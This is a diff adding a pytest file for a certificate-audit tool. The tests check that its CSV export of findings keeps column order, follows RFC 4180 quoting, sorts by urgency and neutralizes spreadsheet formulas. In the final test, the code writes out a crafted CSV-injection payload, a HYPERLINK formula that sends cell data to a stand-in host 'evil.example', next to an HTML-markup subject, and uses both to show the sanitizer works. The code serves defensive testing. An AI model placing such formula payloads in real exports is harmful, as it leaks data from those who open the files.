@@ -1,0 +1,86 @@
+"""Findings as CSV: columns, RFC 4180 quoting, urgency order and formula neutralization."""
+
+from __future__ import annotations
+
+import csv
+import io
+from dataclasses import replace
+
+import pytest
+
+from agent.findings import FINDING_FIELDS, Finding, make_finding
+from agent.render_csv import findings_csv, safe_cell
+from tests.report_helpers import DV_BUG, OV_BUG, demo_findings, hostile_findings, hostile_record
+
+OV_SUBJECT = (
+    "CN=JPRS Organization Validation Authority - G3,O=Japan Registry Services Co.\\, Ltd.,C=JP"
+)
+
+
+def _rows(text: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+def test_header_is_the_finding_fields_in_order() -> None:
+    text = findings_csv([])
+    assert text == "code,severity,sha256,subject,party,policy,due,message,related\r\n"
+    assert tuple(next(csv.reader(io.StringIO(text)))) == FINDING_FIELDS
+
+
+def test_real_incident_findings_round_trip_most_urgent_first() -> None:
+    findings = demo_findings()
+    rows = _rows(findings_csv(findings))
+    assert [(r["severity"], r["code"], r["sha256"]) for r in rows] == [
+        ("error", "missing-at-subordinate", OV_BUG),
+        ("error", "missing-at-subordinate", DV_BUG),
+        ("warning", "doppelganger-untracked", OV_BUG),
+        ("warning", "doppelganger-untracked", DV_BUG),
+    ]
+    first = rows[0]
+    # The real subject holds a comma and a backslash: quoted, read back exactly.
+    assert first["subject"] == OV_SUBJECT
+    assert first["due"] == "2020-07-17T04:48:56Z"
+    assert first["policy"] == "Mozilla Root Store Policy 5.3.2"
+    assert first["related"] == ""
+    ov_group = [f for f in findings if f.code == "doppelganger-untracked" and f.sha256 == OV_BUG]
+    assert rows[2]["related"] == ";".join(ov_group[0].related)
+    assert rows[2]["due"] == ""
+
+
+def test_quotes_commas_and_newlines_are_quoted_per_rfc_4180() -> None:
+    finding = next(f for f in demo_findings() if f.code == "missing-at-subordinate")
+    tricky = replace(finding, message='say "hi",\r\nnext line')
+    text = findings_csv([tricky])
+    assert '"say ""hi"",\r\nnext line"' in text
+    assert f'"{OV_SUBJECT}"' in text
+    assert text.endswith("\r\n")
+    assert _rows(text)[0]["message"] == 'say "hi",\r\nnext line'
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_formula_start_is_neutralized(start: str) -> None:
+    assert safe_cell(start + "HYPERLINK(1)") == "'" + start + "HYPERLINK(1)"
+
+
+def test_harmless_text_is_kept() -> None:
+    assert safe_cell("CN=x") == "CN=x"
+    assert safe_cell("") == ""
+    assert safe_cell(" =1") == " =1"
+
+
+def test_a_crafted_certificate_subject_cannot_become_a_formula() -> None:
+    record = hostile_record()
+    (real,) = hostile_findings([record])
+    # RFC 4514 text starts with the attribute type; a crafted finding puts a formula first,
+    # as a subject read from another source could.
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    crafted: Finding = make_finding(
+        "missing-at-root", sha256=real.sha256, subject=formula, party="secom", message="-2+3"
+    )
+    rows = {row["code"]: row for row in _rows(findings_csv([real, crafted]))}
+    real_row, crafted_row = rows["missing-at-subordinate"], rows["missing-at-root"]
+    assert real_row["subject"] == real.subject  # markup is harmless in a CSV: kept as it is
+    assert real_row["subject"].startswith('O=\\"\\>\\<img')
+    assert real_row["sha256"] == record.sha256
+    assert crafted_row["subject"] == "'" + formula
+    assert crafted_row["message"] == "'-2+3"
